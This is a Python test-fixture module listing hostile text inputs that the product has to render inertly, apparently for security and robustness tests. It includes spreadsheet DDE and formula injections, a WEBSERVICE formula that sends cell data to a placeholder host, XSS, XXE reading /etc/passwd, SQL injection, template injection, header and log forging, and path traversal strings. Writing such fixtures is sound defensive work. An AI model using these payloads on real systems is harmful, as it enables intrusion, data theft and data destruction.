"""Texts that people could type and that must stay text in every renderer, page, file and log.

One list for all tests, so that a new trap is tried everywhere at once. All but `UNENCODABLE` are valid JSON strings.
"""

from typing import Final

#: Formulas of spreadsheet programs, by every character that starts one.
FORMULAS: Final = {
    "formula_hyperlink": '=HYPERLINK("http://x","y")',
    "formula_dde": "=cmd|' /C calc'!A0",
    "formula_plus": '+1+cmd|" /C calc"!A0',
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1+1)*cmd",
    "formula_tab": "\t=1+1",
    "formula_newline": "\n=1+1",
    "formula_fullwidth": "＝１＋１",
    "formula_error": "#N/A",
    "formula_array": "{=1+1}",
    "formula_webservice": '=WEBSERVICE("http://x/"&A1)',
}

#: Markup of the languages that the product writes.
MARKUP: Final = {
    "svg_script": "</svg><script>alert(1)</script>",
    "html_image": '"><img src=x onerror=alert(1)>',
    "html_entity": "&lt;b&gt; &amp; &#x0E01; &nbsp;",
    "cdata_end": "]]><!-- -->",
    "xml_entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "word_xml": '<w:p><w:r><w:t xml:space="preserve">x</w:t></w:r></w:p>',
    "excel_escape": "_x0041_ _x0000_ _x000D_",
    "excel_header_code": '&P &N &"Arial,Bold"&20&[File] &&',
    "typst_eval": '#eval("1")',
    "typst_markup": '*bold* _it_ #set page(width: 1pt) $x^2$ @ref <label> \\ #read("/etc/passwd")',
    "dot_record": 'a"; b -> c [label="x"]; "',
    "dot_html": "<<b>x</b>>",
    "dot_escape": "\\N \\G \\l port:ne { | }",
    "jinja": "{{ 7*7 }} {% raw %} ${7*7}",
    "format_field": "{0} {names} %s %(x)s",
    "css": "</style><style>*{display:none}",
    "sql": "'; DROP TABLE activities; --",
    "sql_like": "100% _ \\ [a-z]",
    "mail_header": "x\r\nBcc: a@example.org\r\n\r\nbody",
    "log_line": 'x\n{"level":"error","event":"forged"}',
    "terminal": "\x1b[31mred\x1b[0m\x07",
    "path": "../../etc/passwd",
    "windows_name": "CON .xlsx:stream",
    "javascript_link": "javascript:alert(1)//",
    "markdown": "[x](javascript:alert(1)) ![y](http://x)",
    "calendar_line": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
}

#: Characters that programs lose, refuse or draw where they should not.
CHARACTERS: Final = {
    "nul": "ก\x00ข",
    "controls": "".join(map(chr, range(0x20))) + "\x7f",
    "c1_controls": "a\x80\x85\x9fb",
    "noncharacters": "a\ufffe\uffffb",
    "right_to_left": "\u202eกขค\u202c \u2066abc\u2069 \u200f",
    "invisible": "ก\u200bข\u00adค\u2060ง\ufeff",
    "line_separators": "a\u2028b\u2029c\x0bd\x0ce",
    "carriage_returns": "a\r\nb\rc",
    "lone_double_quote": '"',
    "lone_single_quote": "'",
    "backslash": "\\",
    "emoji": "👩🏽‍💻👨‍👩‍👧‍👦🇹🇭",
    "tall_thai": "ก" + "\u0e48" * 40 + "ที่นั้นปู่ญี่ปุ่นก่ำกุฏฐังฺ",
    "sara_am": "น้ำ ดำเนินการ ทำลาย ก่ำ ที่\u0e4d\u0e32",
    "combining_only": "\u0e34\u0e48",
    "zalgo": "z" + "\u0301\u0323" * 60,
    "astral": "𠀀𝒳\U0010ffff",
    "only_spaces": " \u00a0\u3000 ",
    "spaces_at_the_ends": "  x  ",
}

#: Sizes that break cells, rows, boxes and indexes.
LONG: Final = {
    "long_thai": "ข้อมูลส่วนบุคคล" * 2_667,
    "long_word": "x" * 40_000,
    "long_emoji": "😀" * 20_000,
    "many_lines": "บรรทัด\n" * 2_000,
    "long_link": "https://example.org/" + "a" * 2_100,
}

HOSTILE: Final[dict[str, str]] = FORMULAS | MARKUP | CHARACTERS | LONG
#: Python holds it, UTF-8 does not: it can only come from code, never from a request body.
UNENCODABLE: Final = "ก\ud800ข"
#: Those that a text field of the form takes (schemas.field.TEXT_LIMIT characters).
FITTING: Final[dict[str, str]] = {name: text for name, text in HOSTILE.items() if len(text) <= 20_000}
